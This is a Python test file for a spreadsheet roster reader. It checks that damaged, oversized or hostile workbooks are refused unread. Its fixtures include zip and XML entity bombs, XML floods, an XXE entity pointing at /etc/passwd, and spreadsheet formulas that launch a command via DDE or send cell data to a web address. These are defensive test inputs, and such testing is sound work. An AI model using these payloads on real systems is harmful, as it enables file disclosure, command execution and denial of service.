"""Untrusted workbooks: damaged, oversized or hostile files are refused unread, and cost little."""

import io
import re
import time
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from bot.roster import workbook
from bot.roster.sheets import HOUSEHOLDS, MOST_FOUND, Problem
from bot.roster.workbook import NotARoster
from tests.unit.bot.roster.rosters import FULL, TREE, WANG, a_roster, described
from tests.unit.bot.roster.workbooks import (
    LEAST,
    against,
    people,
    read,
    refused,
    repacked,
    write,
)

WHOLE_FILE = ("", 0, "")


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"", "no_workbook"),
        ("姓名,角色\n王芳,书记\n".encode(), "no_workbook"),
        (b"PK\x03\x04 and nothing else", "no_workbook"),
        (workbook.OLD_OFFICE + bytes(512), "old_xls"),
        (workbook.OLD_OFFICE + bytes(512) + workbook.ENCRYPTED, "password"),
        (b"x" * (workbook.MOST_BYTES + 1), "too_big"),
    ],
)
def test_what_is_no_workbook_is_told_apart(tmp_path: Path, content: bytes, code: str) -> None:
    path = tmp_path / "名册.xlsx"
    path.write_bytes(content)
    assert refused(path) == refused(content) == [(*WHOLE_FILE, code)]


def test_another_kind_of_zip_is_no_workbook() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert refused(out.getvalue()) == [(*WHOLE_FILE, "no_workbook")]


def test_references_to_other_files_are_turned_away() -> None:
    out = io.BytesIO(write(FULL))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("xl/externalLinks/externalLink1.xml", "<x/>")
    assert refused(out.getvalue()) == [(*WHOLE_FILE, "links")]


@pytest.mark.slow
def test_a_bomb_is_not_unpacked() -> None:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("xl/sharedStrings.xml", "w") as part,
    ):
        for _ in range(workbook.MOST_UNPACKED // 2**20 + 1):
            part.write(bytes(2**20))
    tracemalloc.start()
    try:
        assert refused(out.getvalue()) == [(*WHOLE_FILE, "too_big")]
        assert tracemalloc.get_traced_memory()[1] < 2**20
    finally:
        tracemalloc.stop()


def test_a_part_that_unpacks_to_more_than_it_claims_is_damaged() -> None:
    content = bytearray(write(FULL))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        size = archive.getinfo("xl/sharedStrings.xml").file_size
    claimed = bytes(content).replace(size.to_bytes(4, "little"), (100).to_bytes(4, "little"))
    assert refused(claimed) == [(*WHOLE_FILE, "no_workbook")]


def test_entities_that_multiply_are_not_expanded() -> None:
    layers = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    bomb = f'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY l0 "ha">{layers}]>'.encode()

    def planted(part: str, content: bytes) -> bytes:
        if part != "xl/sharedStrings.xml":
            return content
        return bomb + re.sub(rb"<t>[^<]*</t>", b"<t>&l8;</t>", content.partition(b"?>")[2], count=1)

    assert refused(repacked(write(FULL), planted)) == [(*WHOLE_FILE, "no_workbook")]


def planted(part: str, content: bytes) -> bytes:
    """A sound roster with one part more, or that part replaced."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(write(FULL))) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in set(old.namelist()) - {part}:
            new.writestr(name, old.read(name))
        new.writestr(part, content)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
DTD = '<?xml version="1.0" encoding="{}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
FLOODS = {
    "cells in one row": (SHEET, b"<worksheet><sheetData><row>" + b"<c/>" * 3_000_000),
    "texts": ("xl/sharedStrings.xml", b"<sst>" + b"<si/>" * 3_000_000),
    "styles": ("xl/styles.xml", b"<styleSheet><cellXfs>" + b"<xf/>" * 3_000_000),
    "names": ("xl/workbook.xml", b"<workbook><definedNames>" + b"<definedName/>" * 2_000_000),
    "relations": ("xl/_rels/workbook.xml.rels", b"<Relationships>" + b"<Relationship/>" * 2_000_000),
    "kinds": ("[Content_Types].xml", b"<Types>" + b"<Default/>" * 2_000_000),
}


@pytest.mark.slow
@pytest.mark.parametrize("name", FLOODS)
def test_a_flood_of_anything_is_refused_at_once(name: str) -> None:
    """Megabytes of XML in a file of a few dozen kilobytes: parsed, they would be hundreds."""
    content = planted(*FLOODS[name])
    assert len(content) < 300_000
    began = time.process_time()  # a busy machine takes longer, and works no more
    assert refused(content) == [(*WHOLE_FILE, "too_big")]
    assert time.process_time() - began < 5


@pytest.mark.slow
@pytest.mark.parametrize("name", FLOODS)
def test_and_in_little_room(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_CELLS", 10_000)  # watching each of a million would take long
    content = planted(*FLOODS[name])
    tracemalloc.start()
    try:
        refused(content)
        assert tracemalloc.get_traced_memory()[1] < workbook.MOST_UNPACKED
    finally:
        tracemalloc.stop()


def test_a_zip_of_very_many_parts_is_refused() -> None:
    out = io.BytesIO(write(FULL))
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(workbook.MOST_PARTS):
            archive.writestr(f"xl/media/{number}.png", b"")
    assert refused(out.getvalue()) == [(*WHOLE_FILE, "too_big")]


@pytest.mark.parametrize(
    "part", [SHEET, "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml", "docProps/app.xml"]
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_is_refused_wherever_it_stands(part: str, encoding: str) -> None:
    """No file is read for it, no entity looked up."""
    assert refused(planted(part, DTD.format(encoding).encode(encoding))) == [(*WHOLE_FILE, "no_workbook")]


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A1",
        '=DDE("excel";"x";"y")',
        '=HYPERLINK("http://example.org/?"&A1)',
        '=WEBSERVICE("http://example.org")',
        "='[other.xlsx]Sheet1'!A1",
        "=1+1",
    ],
)
def test_a_formula_is_named_and_never_worked_out(formula: str) -> None:
    found = people(formula, *WANG[1:])
    assert [(problem.code, problem.found) for problem in found.unread] == [("formula", formula[:MOST_FOUND])]


@pytest.mark.parametrize(
    "part",
    ["xl/vbaProject.bin", "xl/connections.xml", "xl/queryTables/queryTable1.xml", "customUI/customUI.xml"],
)
def test_macros_and_connections_are_left_alone(part: str) -> None:
    """Nothing in the file is run or fetched: only the cells of the sheets are looked at."""
    assert read(planted(part, b"<x/>")) == FULL


def test_a_workbook_that_says_it_is_something_else_is_none() -> None:
    def lying(part: str, content: bytes) -> bytes:
        if part != "[Content_Types].xml":
            return content
        return content.replace(b"spreadsheetml.sheet.main+xml", b"wordprocessingml.document.main+xml")

    assert refused(repacked(write(FULL), lying)) == [(*WHOLE_FILE, "no_workbook")]


def test_too_many_rows_are_refused_before_they_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "MOST_ROWS", 2)
    two = a_roster(TREE[:2])
    assert read(write(two)) == two
    with pytest.raises(NotARoster) as refusal:
        read(write(a_roster(TREE)))
    assert refusal.value.problems == [Problem("", 0, "", "too_many_rows", "2")]
    assert described(refusal.value.problems[0])


def flats(count: int) -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"constant_memory": True}) as book:
        for title, rows in LEAST.items():
            page = book.add_worksheet(title)
            for number, row in enumerate(rows):
                page.write_row(number, 0, row)
        households = book.add_worksheet("住户")
        households.write_row(0, 0, [column.header for column in HOUSEHOLDS.columns])
        for number in range(1, count + 1):
            households.write_number(number, 0, 13)
    return out.getvalue()


@pytest.mark.slow
def test_a_hundred_thousand_rows_are_read() -> None:
    """A district's households: too many only for a spreadsheet somebody dragged to its end."""
    assert len(read(flats(100_000)).lines[HOUSEHOLDS.title]) == 100_000


@pytest.mark.slow
def test_more_are_refused_before_they_are_read() -> None:
    assert refused(flats(100_001)) == [(*WHOLE_FILE, "too_many_rows")]


@pytest.mark.slow
def test_an_extent_written_down_wrong_hides_nothing() -> None:
    def lying(_: str, content: bytes) -> bytes:
        return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1"', content)

    assert read(repacked(write(FULL), lying)) == FULL


def test_a_row_numbered_beyond_the_last_is_damage_and_no_endless_wait(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook, "LAST_ROW", 1000)

    def far(part: str, content: bytes) -> bytes:
        return content.replace(b'<row r="2"', b'<row r="999999999999"') if "sheet1" in part else content

    assert refused(repacked(write(FULL), far)) == [(*WHOLE_FILE, "no_workbook")]


@pytest.mark.slow
@given(st.data())
def test_a_damaged_file_is_refused_or_read_and_never_a_crash(data: Any) -> None:
    content = bytearray(SMALL)
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.sampled_from((len(content), len(content) // 2, len(content) - 30)))
    assert all(described(problem) for problem in against(bytes(content[:cut])))


SMALL = write(a_roster(people=(WANG,)))
ARCHIVED = ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml")


@pytest.mark.slow
@given(
    st.sampled_from(ARCHIVED),
    st.integers(0, 10_000),
    st.sampled_from((b"", b"<", b"-1", b"&x;", b"\xff", b"9" * 30)),
)
def test_a_damaged_part_is_refused_or_read_and_never_a_crash(name: str, place: int, junk: bytes) -> None:
    def damaged(part: str, content: bytes) -> bytes:
        at = place % len(content)
        return content[:at] + junk + content[at + 3 :] if part == name else content

    assert all(described(problem) for problem in against(repacked(SMALL, damaged)))


def test_a_folder_and_a_missing_file_are_the_system_s_to_name(tmp_path: Path) -> None:
    with pytest.raises(IsADirectoryError):
        read(tmp_path)
    with pytest.raises(FileNotFoundError):
        read(tmp_path / "none.xlsx")
